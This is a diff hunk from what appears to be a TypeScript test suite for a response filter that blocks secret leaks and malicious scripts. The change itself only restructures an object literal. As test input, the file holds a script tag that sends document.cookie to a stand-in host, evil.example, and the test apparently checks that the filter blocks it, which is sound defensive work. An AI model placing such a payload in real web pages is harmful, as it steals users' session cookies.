@@ -121,7 +121,8 @@ test('a response is judged as it was sent and as it is with the values put back'
   assert.deepEqual([key.kind, key.event?.threatType], ['block', 'secret_leak']);
   const script = masking('<script>fetch("https://evil.example/?c=" + document.cookie)</script>');
   const ruleset = {
-    ...{ useCase: 'default', strictness: 'strict' },
+    useCase: 'default',
+    strictness: 'strict',
     policies: [{ id: 'p', action: 'block', threatTypes: ['malicious_script'] }],
   } as const;
   const blocked = await answered(script, `Dear ${MASK}, hello.`, { ruleset });
